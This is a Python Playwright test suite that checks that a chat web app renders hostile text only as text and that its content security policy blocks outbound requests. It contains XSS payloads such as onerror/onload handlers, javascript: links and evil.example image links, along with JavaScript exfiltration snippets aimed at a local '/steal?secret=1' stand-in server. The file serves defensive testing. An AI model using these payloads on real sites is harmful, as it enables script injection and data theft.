"""Hostile text in the chat page: it is shown as text, wherever it stands, and nothing that it asks for happens."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Error, expect

from tests.conftest import ScriptedModel
from tests.server.conftest import MakeServer, wait_until
from tests.server.page.conftest import MakeVisit, Visit

GOLDEN = Path(__file__).parents[2] / "golden/xss"
CORPUS = [
    text
    for name in ("dompurify.json", "markdown.json")
    for text in json.loads((GOLDEN / name).read_text(encoding="utf-8"))
]
PER_CONVERSATION = 40
# All that Markdown becomes, our own frames around code and tables, and formulas.
_TAGS = """
    a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr li math ol p pre span strong table tbody td th thead
    tr ul annotation menclose merror mfenced mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot
    mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover semantics
"""
_ATTRIBUTES = "align aria-busy class data-display href rel start tabindex target title type"
_FOREIGN = """([tags, attributes]) => {
  const found = [];
  for (const node of document.querySelectorAll('.prose, .prose *')) {
    if (!tags.includes(node.localName)) found.push(node.localName);
    const isFormula = node.closest('math') !== null;
    for (const {name, value} of node.attributes) {
      if (name.startsWith('on') || name === 'style' || /script:|data:|evil/i.test(isFormula ? value : ''))
        found.push(`${node.localName} ${name}=${value}`);
      if (!isFormula && !attributes.includes(name)) found.push(`${node.localName} ${name}`);
    }
    if (node.hasAttribute('href') && !/^(https?|mailto):/i.test(node.getAttribute('href'))) found.push(node.outerHTML);
  }
  return found;
}"""


class LiveStranger:
    """Somebody else's server, that counts who comes."""

    def __init__(self) -> None:
        self.num_visitors = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}/steal?secret=1"
        self._thread = threading.Thread(target=self._count, daemon=True)
        self._thread.start()

    def _count(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                visitor = self._socket.accept()[0]
                threading.Thread(target=self._read, args=(visitor,), daemon=True).start()

    def _read(self, visitor: socket.socket) -> None:
        # A connection that says nothing is the browser's guess, made before the policy is asked.
        with visitor, contextlib.suppress(OSError):
            self.num_visitors += bool(visitor.recv(1))

    def close(self) -> None:
        """Go away."""
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


def turns_of(texts: list[str]) -> Iterator[dict[str, Any]]:
    """A question and an answer for each, hostile in every place that has text."""
    parent = None
    for index, text in enumerate(texts):
        common = {"created": index}
        yield {
            **common,
            "id": f"u{index}",
            "parent": parent,
            "role": "user",
            "text": text,
            "attachments": [{"name": text, "text": text}],
        }
        call = {
            "id": f"c{index}",
            "type": "function_call",
            "call_id": f"call{index}",
            "name": text,
            "arguments": text,
        }
        output = [
            {"id": f"r{index}", "type": "reasoning", "content": [{"type": "t", "text": text}]},
            {"id": f"m{index}", "type": "message", "content": [{"type": "t", "text": text}]},
            {
                "id": f"p{index}",
                "type": "message",
                "phase": "commentary",
                "content": [{"text": text}],
            },
            call,
        ]
        yield {
            **common,
            "id": f"a{index}",
            "parent": f"u{index}",
            "role": "assistant",
            "status": "done",
            "output": output,
        }
        parent = f"t{index}"
        result = {"call_id": f"call{index}", "output": text}
        yield {**common, "id": parent, "parent": f"a{index}", "role": "tool", "results": [result]}


def conversation_of(title: str, texts: list[str]) -> dict[str, Any]:
    turns = list(turns_of(texts))
    return {
        "title": title,
        "turns": {turn["id"]: turn for turn in turns},
        "leaf": turns[-1]["id"],
        "updated": 1,
    }


def take(visit: Visit, conversations: list[dict[str, Any]]) -> None:
    """Import them."""
    file = {"format": "gptoss-conversations", "version": 1, "conversations": conversations}
    with visit.page.expect_file_chooser() as chooser:
        visit.page.get_by_role("button", name="Import").click()
    data = json.dumps(file).encode()
    chooser.value.set_files([{"name": "a.json", "mimeType": "application/json", "buffer": data}])
    links = visit.page.get_by_role("navigation").get_by_role("link")
    expect(links).to_have_count(len(conversations))


def check_only_text(visit: Visit) -> None:
    """There are no nodes but those of Markdown, and nothing happened."""
    expect(visit.page.locator(".prose[aria-busy=true]")).to_have_count(0)
    assert visit.page.evaluate(_FOREIGN, [_TAGS.split(), _ATTRIBUTES.split()]) == []
    visit.assert_clean()


@pytest.mark.wide(5)
@pytest.mark.parametrize("first", range(0, len(CORPUS), PER_CONVERSATION))
def test_hostile_text_is_shown_as_text(visit: Visit, first: int) -> None:
    texts = CORPUS[first : first + PER_CONVERSATION]
    take(visit, [conversation_of("Hostile", texts)])
    visit.page.get_by_role("link", name="Hostile").click()
    expect(visit.answers).to_have_count(len(texts))
    visit.page.locator(".toggle, .files summary").evaluate_all(
        "all => all.forEach(each => each.click())"
    )
    expect(visit.page.locator(".thoughts")).to_have_count(len(texts))
    # Formulas and colours come later than their text.
    visit.page.wait_for_load_state("networkidle")
    for place in (".bubble", ".thoughts", ".files pre", ".files summary"):
        assert visit.page.locator(place).all_text_contents() == texts, place
    check_only_text(visit)


@pytest.mark.thorough
def test_hostile_titles(visit: Visit) -> None:
    take(visit, [conversation_of(text, [text]) for text in CORPUS])
    check_only_text(visit)
    for link in visit.page.get_by_role("navigation").get_by_role("link").all()[::20]:
        link.click()
        expect(visit.answers).to_have_count(1)
    check_only_text(visit)


def test_hostile_file_names(visit: Visit, tmp_path: Path) -> None:
    names = [
        '"><img src=x onerror=alert(1)>.txt',
        "<svg onload=alert(1)>.md",
        "javascript:alert(1)",
    ]
    files = [{"name": name, "mimeType": "text/plain", "buffer": b"text"} for name in names]
    with visit.page.expect_file_chooser() as chooser:
        visit.page.get_by_role("button", name="Attach text files").click()
    chooser.value.set_files(files)
    shown = visit.page.get_by_label("Attached files").locator("span")
    expect(shown).to_have_text(names)
    visit.ask("What is 1 + 1?")
    assert visit.page.locator(".files summary").all_text_contents() == names
    check_only_text(visit)


@pytest.mark.wide(4)
@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>\n\n![x](https://evil.example/?secret)",
        "[x](javascript:alert(1)) <https://evil.example> <script>alert(1)</script>",
        "```html\n<svg onload=alert(1)></svg>\n```\n\n| a | b |\n|---|---|\n| <b>x</b> | ![x](//evil.example) |",
        "$\\href{javascript:alert(1)}{x}$ and \\[\\includegraphics{https://evil.example/x}\\]",
    ],
)
def test_hostile_text_while_it_is_written(
    make_server: MakeServer, make_visit: MakeVisit, scripted_model: ScriptedModel, text: str
) -> None:
    """Every beginning of it is shown as well, as it comes."""
    markup = f"<|channel|>analysis<|message|>{text}<|end|><|start|>assistant<|channel|>final<|message|>{text}<|return|>"
    visit = make_visit(make_server(scripted_model(markup, pause_s=0.01))).open()
    visit.ask(text)
    visit.page.wait_for_load_state("networkidle")
    check_only_text(visit)


@pytest.fixture
def stranger() -> Iterator[LiveStranger]:
    made = LiveStranger()
    yield made
    made.close()


@pytest.mark.wide(6)
@pytest.mark.parametrize(
    ("what", "directive"),
    [
        ("new Image().src = 'URL'", "img-src"),
        ("fetch('URL', {mode: 'no-cors'}).catch(() => 0)", "connect-src"),
        ("navigator.sendBeacon('URL')", "connect-src"),
        ("new WebSocket('URL'.replace('http', 'ws'))", "connect-src"),
        ("new Audio('URL').play().catch(() => 0)", "media-src"),
        ("add('iframe', {src: 'URL'})", "frame-src"),
        (
            "add('embed', {type: 'text/html'}).setAttribute('src', 'URL')",
            "object-src",
        ),
        ("add('link', {rel: 'stylesheet', href: 'URL'})", "style-src-elem"),
        ("add('style', {textContent: 'p {background: url(URL)}'})", "style-src-elem"),
        ("document.body.setAttribute('style', 'background: url(URL)')", "style-src-attr"),
        ("add('base', {href: 'URL'})", "base-uri"),
        ("add('form', {action: 'URL'}).submit()", "form-action"),
        ("document.body.innerHTML = '<img src=URL>'", "require-trusted-types-for"),
        ("document.createElement('script').src = 'URL'", "require-trusted-types-for"),
        ("document.createElement('script').text = 'alert(1)'", "require-trusted-types-for"),
        ("setTimeout('alert(1)')", "require-trusted-types-for"),
        ("trustedTypes.createPolicy('other', {})", "trusted-types"),
    ],
)
def test_policy_stops_what_got_through(
    visit: Visit, stranger: LiveStranger, what: str, directive: str
) -> None:
    """The second wall: nothing leaves even if a script runs in the page."""
    add = "(name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields))"
    what = what.replace("URL", stranger.url)
    visit.page.evaluate(f"() => {{ const add = {add}; try {{ {what} }} catch {{}} }}")
    wait_until(lambda: visit.violations() != [])
    assert visit.violations()[0].startswith(directive)
    visit.page.wait_for_timeout(200)
    assert stranger.num_visitors == 0
    assert visit.dialogs == []


def test_stranger_would_have_noticed(visit: Visit, stranger: LiveStranger) -> None:
    with contextlib.suppress(Error):
        visit.page.goto(stranger.url)
    wait_until(lambda: stranger.num_visitors > 0)


def test_page_cannot_be_framed(visit: Visit) -> None:
    visit.page.goto("about:blank")
    visit.page.set_content(f'<iframe src="{visit.url}/"></iframe>')
    visit.page.wait_for_load_state("networkidle")
    frame = visit.page.frames[1]
    assert frame.url.startswith("chrome-error:")
